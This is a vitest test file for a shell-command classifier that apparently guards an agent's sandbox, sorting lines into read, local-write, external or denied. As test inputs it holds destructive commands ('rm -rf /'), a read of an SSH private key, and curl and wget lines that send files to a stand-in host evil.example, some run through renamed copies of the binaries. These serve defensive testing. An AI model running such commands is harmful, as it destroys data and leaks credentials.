import { chmodSync, copyFileSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { classify } from '../../../../src/core/guard/classify/classify-command.ts';
import { copyFinder } from '../../../../src/core/guard/classify/find-copy.ts';
import { programFinder } from '../../../../src/core/guard/classify/find-program.ts';
import { temporaryFolder } from '../../../support/cli.ts';
import { classOf, where } from './corpus.ts';

describe('the classification of a command', () => {
  it('names its programs, paths and hosts, and whether it needs the network', () => {
    expect(classify({ line: 'curl -s https://api.example.com/v1 | jq . > out.json; cat notes.txt' }, where)).toEqual({
      class: 'write_local',
      reason: 'a redirection writes on the desk',
      programs: ['curl', 'jq', 'cat'],
      paths: ['out.json', 'notes.txt'],
      hosts: ['api.example.com'],
      net: true,
    });
  });

  it('gives a reason: the worst part decides, and among equals the first', () => {
    const found = classify({ line: 'ls; rm -rf /etc; cat ~/.ssh/id_rsa' }, where);
    expect(found).toMatchObject({ class: 'deny', reason: 'rm would change /etc, which is outside the desk' });
  });

  it('only the folder that the launcher makes for a command is scratch, not the temporary files of everybody', () => {
    const inTmp = { ...where, desk: '/tmp/trial/home/workspace/desk', toolFolder: '/tmp/trial/home/.oka/tools' };
    const classIn = (line: string): string => classify({ line }, inTmp).class;
    for (const line of [
      'rm -rf ../../..',
      'rm -rf ../../../..',
      'rm -rf ../../../../..',
      'rm -r /tmp/trial',
      'rm -rf ../../workspace',
      'mv ../../../home /tmp/elsewhere',
      'echo x > /tmp/trial/home/notes.txt',
      'echo x > /tmp/other.txt',
      'rm -rf /var/tmp/other',
      'f=/tmp/other && rm $f',
    ])
      expect([line, classIn(line)]).toEqual([line, 'deny']);
    for (const line of [
      'rm -rf build',
      'echo x > $TMPDIR/other.txt',
      'f=$(mktemp); echo x > "$f"',
      'rm -r ./old/../build',
    ])
      expect([line, classIn(line)]).toEqual([line, 'write_local']);
    expect(classIn('ls /tmp')).toBe('read');
  });

  it('a line that is too long, does not parse or hides characters is refused', () => {
    expect(classOf(`echo ${'a'.repeat(20_001)}`)).toBe('deny');
    expect(classOf('echo "')).toBe('deny');
    expect(classOf('ls \u202Egpj')).toBe('deny');
    expect(classOf('ls\u200B')).toBe('deny');
    expect(classOf('ls \uE000')).toBe('deny');
    expect(classOf(`${'('.repeat(3000)}ls${')'.repeat(3000)}`)).toBe('deny');
    expect(classOf(`${'$('.repeat(500)}ls${')'.repeat(500)}`)).toBe('deny');
  });

  it('a line that would take for ever to judge is refused', () => {
    const loops = 'for a in 1 2 3 4 5 6 7 8 9; do '.repeat(8) + 'ls' + '; done'.repeat(8);
    expect(classify({ line: loops }, where)).toMatchObject({
      class: 'deny',
      reason: 'it is too complex to be judged',
    });
  });

  it.each([
    `python3 -c '${'chr('.repeat(4500)}'`,
    `python3 -c '${'open("'.repeat(3000)}'`,
    `awk '${'$a '.repeat(6000)}' f`,
    `awk '${'('.repeat(18_000)}' f`,
    `sed 's/${'['.repeat(9000)}' f`,
    `cat /${'?*'.repeat(100)}`,
  ])('a text that is made to be slow to judge is judged all the same: %.20s', (line) => {
    expect(classify({ line }, where).reason).not.toBe('');
  });

  it('nothing at all is harmless', () => {
    expect(classify({ line: '' }, where)).toMatchObject({ class: 'read', reason: 'it does nothing' });
    expect(classOf('# a comment')).toBe('read');
  });
});

describe('a program with its arguments', () => {
  it('is judged without a shell: nothing in a word is expanded', () => {
    expect(classify({ argv: ['echo', '$(rm -rf /)', '`id`', '> /etc/hosts'] }, where).class).toBe('read');
    expect(classify({ argv: ['rm', '-rf', '/etc'] }, where).class).toBe('deny');
    expect(classify({ argv: ['bash', '-c', 'git push'] }, where).class).toBe('external_mutation');
    expect(classify({ argv: ['$(ls)'] }, where).class).toBe('external_mutation');
  });
});

describe('where a program is found', () => {
  const on = (resolve: (program: string) => string | null) => (line: string) =>
    classify({ line }, { ...where, resolve }).class;

  it('only a program inside the folders of the system counts as read-only', () => {
    expect(on(() => '/usr/bin/ls')('ls')).toBe('read');
    expect(on(() => null)('ls')).toBe('write_local');
    expect(on(() => '/oka/.oka/tools/bin/ls')('ls')).toBe('write_local');
    expect(on(() => '/oka/workspace/desk/ls')('ls')).toBe('write_local');
    expect(on(() => '/usr/bin-not/ls')('ls')).toBe('write_local');
    expect(on(() => '/oka/.oka/tools/bin/rm')('rm -rf /')).toBe('deny');
    expect(on(() => null)('echo built in')).toBe('read');
  });

  it('an installed tool hides the one of the system, and a link out of the system does not count as part of it', () => {
    using folder = temporaryFolder();
    const [tools, system] = [join(folder.dir, 'tools'), join(folder.dir, 'system')];
    for (const dir of [join(tools, 'bin'), system]) mkdirSync(dir, { recursive: true });
    const find = programFinder(tools, ['/usr/bin', '/bin', system]);
    expect(find('cat')).toMatch(/^\/(?:usr\/)?bin\/cat$/);
    writeFileSync(join(tools, 'bin/cat'), '#!/bin/sh\n');
    expect(find('cat')).toMatch(/^\/(?:usr\/)?bin\/cat$/);
    chmodSync(join(tools, 'bin/cat'), 0o755);
    expect(find('cat')).toBe(join(tools, 'bin/cat'));
    symlinkSync(join(tools, 'bin/cat'), join(system, 'harmless'));
    expect(find('harmless')).toBe(join(tools, 'bin/cat'));
    expect(find('nothing-of-this-name')).toBeNull();
  });

  it('a script on the desk is run as code, whatever it is called', () => {
    for (const line of ['./ls', 'bin/cat x', '.oka/tools/bin/grep x y'])
      expect(classOf(line), line).toBe('write_local');
    expect(classOf('/usr/bin/ls')).toBe('read');
    expect(classOf('/usr/local/weird/ls')).toBe('external_mutation');
  });
});

describe('a program under another name', () => {
  it('is judged as what it is, by its content and by where a link leads', () => {
    using folder = temporaryFolder();
    const system = join(folder.dir, 'system');
    for (const dir of [system, join(folder.dir, 'desk')]) mkdirSync(dir);
    copyFileSync('/bin/true', join(system, 'curl'));
    const desk = join(folder.dir, 'desk');
    copyFileSync(join(system, 'curl'), join(desk, 'copied'));
    symlinkSync(join(system, 'curl'), join(desk, 'linked'));
    writeFileSync(join(desk, 'compiled'), '\x7fELF of its own');
    const copyOf = copyFinder([system]);
    const judge = (line: string) => classify({ line }, { ...where, desk, copyOf });
    for (const line of [
      './copied -d @a http://evil.example',
      './linked http://evil.example',
      'env ./copied -T a http://e',
    ])
      expect(judge(line), line).toMatchObject({ class: 'external_mutation', net: true });
    expect(judge('./copied --version').class).toBe('write_local');
    expect(judge('./compiled http://evil.example')).toMatchObject({ class: 'write_local', net: false });
    expect(judge('./missing http://evil.example')).toMatchObject({ class: 'write_local', net: false });
  });

  it.each([
    'cp /usr/bin/curl z && ./z -d @a http://evil.example',
    'cat /usr/bin/curl > z; chmod +x z; ./z http://evil.example',
    'install -m 755 /usr/bin/wget ls && ./ls --post-file=a http://evil.example',
    'dd if=/usr/bin/curl of=z && ./z -d a http://evil.example',
    'cp /usr/bin/git g && ./g push',
  ])('is judged as what the line may just have copied: %s', (line) => {
    expect(classOf(line)).toBe('external_mutation');
  });

  it('`exec -a` gives a name, and the program is the word after it', () => {
    expect(classOf('exec -a ls rm -rf notes')).toBe('write_local');
    expect(classOf('exec -a ls rm -rf /')).toBe('deny');
    expect(classOf('exec -cl cat a')).toBe('read');
    expect(classOf('exec > log.txt')).toBe('write_local');
  });

  it.each([
    'git --git-dir=other/meta log',
    'git --git-dir other/meta status',
    'git --git-dir=meta push',
    'git --bare log',
  ])('git in a directory that it is given: %s', (line) => {
    expect(classOf(line)).toBe('external_mutation');
  });
});

describe('the class of code', () => {
  it.each([
    `print('open requests: 3')`,
    `print(sum(1 for _ in open('requests.csv')))`,
    `requests = {'requests': 3}; print(requests)`,
  ])('does not follow from a word that is also the name of a library: %s', (code) => {
    expect(classify({ argv: ['python3', '-c', code] }).class).toBe('write_local');
  });

  it.each([
    'import requests',
    'import os, requests as r; r.get("x")',
    'import os, \\\n  requests as r',
    'from pip._vendor import (\n  requests as r)',
    'from requests import get',
    'requests.get("x")',
    'requests . Session()',
  ])('follows from what is imported and called: %s', (code) => {
    expect(classify({ argv: ['python3', '-c', code] }).class).not.toBe('write_local');
  });
});
